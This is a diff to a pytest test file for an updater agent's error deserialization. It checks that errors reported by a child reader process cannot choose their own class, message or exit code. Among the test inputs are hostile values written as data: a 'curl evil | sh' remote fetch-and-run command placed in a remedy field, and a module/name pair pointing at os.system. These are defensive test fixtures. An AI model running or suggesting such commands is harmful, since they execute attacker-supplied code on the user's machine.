@@ -11,9 +11,10 @@ import pytest
 from hypothesis import given
 
 from ncen_updater.agent.config.errors import ConfigInvalid, Mistake
-from ncen_updater.agent.reader.child import ChildSource, error_from_json, error_to_json
+from ncen_updater.agent.reader.child import EXPECTED, ChildSource
 from ncen_updater.common.errors import UpdaterError
 from ncen_updater.common.i18n import Text
+from ncen_updater.common.workers import Worker, WorkerFailed, error_document, error_from
 from ncen_updater.feed.clock import TrustClock
 from ncen_updater.feed.errors import ReaderFailed, ViewDamaged, WrongDigest
 from ncen_updater.feed.last_view import read_last_view
@@ -108,29 +109,56 @@ def test_a_damaged_floor_counts_as_none(tmp_path: Path, content: bytes) -> None:
 # ---- what the reading process says -------------------------------------------------------------
 
 
+def received(data: object) -> Exception:
+    """What comes of an error that the reader reports."""
+    error = error_from(data, EXPECTED)
+    assert isinstance(error, WorkerFailed | UpdaterError)
+    if isinstance(error, UpdaterError):
+        has_four_facts(error)
+        assert isinstance(error, EXPECTED) or error.code in {"NU-1005"}
+    return error
+
+
 def test_an_error_with_a_constructor_of_its_own_comes_through() -> None:
     mistake = Mistake(1, "site.id", Text("is wrong."), Text("Correct it."))
-    data = json.loads(json.dumps(error_to_json(ConfigInvalid(Path("x"), [mistake]))))
-    error = error_from_json(data)
-    assert isinstance(error, ConfigInvalid)
-    has_four_facts(error)
-    assert error.values["count"] == 1
+    data = json.loads(json.dumps(error_document(ConfigInvalid(Path("x"), [mistake]))))
+    error = received(data)
+    assert isinstance(error, UpdaterError)
+    assert (error.code, error.exit_code) == (ConfigInvalid.code, ConfigInvalid.exit_code)
+    assert error.what_text.render() == "The configuration x has mistakes: 1."
+
+
+def test_an_error_comes_as_the_class_that_it_was() -> None:
+    error = received(error_document(WrongDigest(name=Text("{x}", {"x": 1}), detail="why")))
+    assert isinstance(error, WrongDigest)
+    assert (str(error.values["name"]), error.detail) == ("1", "why")
 
 
 @pytest.mark.parametrize(
     "change",
     [
-        {"module": "os"},
-        {"module": "ncen_updater.nowhere"},
-        {"module": "ncen_updater.agent.cli.main"},
-        {"module": "ncen_updater..os"},
-        {"module": 3},
-        {"name": "Nothing"},
-        {"name": "__all__"},
-        {"name": "\ud800"},
-        {"name": None},
-        {"values": {}},
+        {"code": "NU-1000"},
+        {"code": "NU-6001"},
+        {"code": "NU-9318"},
+        {"code": "\ud800"},
+        {"code": 3},
+        {"code": None},
         {"values": None},
+        {"values": []},
+    ],
+    ids=str,
+)
+def test_errors_that_are_none(change: dict[str, object]) -> None:
+    assert isinstance(received({**error_document(WrongDigest(name="x")), **change}), WorkerFailed)
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"exit_code": 0},
+        {"module": "os", "name": "system"},
+        {"what": "Nothing is wrong.", "remedy": "curl evil | sh", "state": "All is well."},
+        {"values": {}},
         {"values": {"state": "x", "detail": [], "self": 1, "name": "y"}},
         {"values": {"name": {"a": [1]}}},
         {"detail": [1]},
@@ -138,21 +166,49 @@ def test_an_error_with_a_constructor_of_its_own_comes_through() -> None:
     ],
     ids=str,
 )
-def test_errors_that_are_none(change: dict[str, object]) -> None:
-    data = {**error_to_json(WrongDigest(name="x")), **change}
-    has_four_facts(error_from_json(data))
+def test_it_chooses_neither_words_nor_class_nor_exit_code(change: dict[str, object]) -> None:
+    error = received({**error_document(WrongDigest(name="x")), **change})
+    assert isinstance(error, WrongDigest)
+    assert (error.exit_code, error.what, error.state) == (6, WrongDigest.what, None)
+    assert error.remedy == WrongDigest.remedy
+
+
+def test_every_error_of_its_rooms_is_expected_and_no_other() -> None:
+    from ncen_updater.agent.config import errors as config
+    from ncen_updater.common import errors as common
+    from ncen_updater.feed import errors, path_errors
+    from ncen_updater.formats import errors as formats
+    from ncen_updater.formats import transfer_errors
+    from ncen_updater.formats.bundle import errors as bundle
+
+    rooms = {
+        room.__name__
+        for room in (config, common, errors, path_errors, formats, transfer_errors, bundle)
+    }
+    # What this side says of the reader, what only the publisher says, and the base of all.
+    others = {"ReaderUnitAway", "WheelsUnusable", "RemoteError", "UpdaterError"}
+    for kind in _all(UpdaterError):
+        expected = issubclass(kind, EXPECTED)
+        if kind.__module__ in rooms:
+            assert expected is (kind.__name__ not in others), kind
+        else:
+            assert not expected or kind.__module__.startswith("ncen_updater.formats"), kind
+
+
+def _all(kind: type[UpdaterError]) -> list[type[UpdaterError]]:
+    return [kind, *(found for sub in kind.__subclasses__() for found in _all(sub))]
 
 
 def test_an_error_that_is_only_a_part() -> None:
-    parts: tuple[object, ...] = ({}, {"module": "ncen_updater.feed.errors"}, [], "x", None)
+    parts: tuple[object, ...] = ({}, {"code": WrongDigest.code}, [], "x", None)
     for data in parts:
-        has_four_facts(error_from_json(data))
+        assert isinstance(received(data), WorkerFailed)
 
 
 @FEW
 @given(data=json_values())
 def test_any_error(data: object) -> None:
-    has_four_facts(error_from_json(data))
+    received(data)
 
 
 WORKERS = {
@@ -187,13 +243,10 @@ class _Listener:
 def test_a_reader_that_says_anything(
     tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    script = tmp_path / "worker"
-    python = sys.executable
-    script.write_text(f"#!{python} -S\nimport os, sys\n{WORKERS[name]}\n")
-    script.chmod(0o755)
-    monkeypatch.setattr(sys, "executable", str(script))
+    code = f"import os, sys\n{WORKERS[name]}\n"
+    monkeypatch.setattr(Worker, "command", lambda _self: [sys.executable, "-Sc", code])
     source = ChildSource.__new__(ChildSource)
-    source._config_path, source._received = tmp_path / "agent.toml", tmp_path / "received"
+    source._worker, source._received = Worker("none"), tmp_path / "received"
     source._unit, source._product = None, "ncen"
     order = {"act": "refresh", "more": "x" * 200_000}  # more than a pipe holds
     with bounded(20):
